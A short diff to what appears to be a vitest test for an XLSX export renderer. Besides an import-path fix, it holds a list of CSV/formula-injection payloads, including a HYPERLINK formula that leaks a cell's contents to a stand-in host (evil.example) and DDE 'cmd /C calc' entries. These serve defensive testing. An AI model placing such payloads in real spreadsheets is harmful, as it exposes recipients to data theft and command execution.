@@ -3,7 +3,7 @@ import { describe, expect, it } from "vitest";
 import { openPackage, parseXml } from "../../../test/office-exports/check-package.js";
 import { validateOoxml } from "../../../test/ooxml/validate-package.js";
 import { TEXTS, unicodeSheet } from "../../../test/office-exports/fixtures.js";
-import type { Sheet } from "../source.js";
+import type { Sheet } from "../model/source.js";
 import { renderSheetToXlsx } from "./render-sheet-to-xlsx.js";
 
 const INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"];
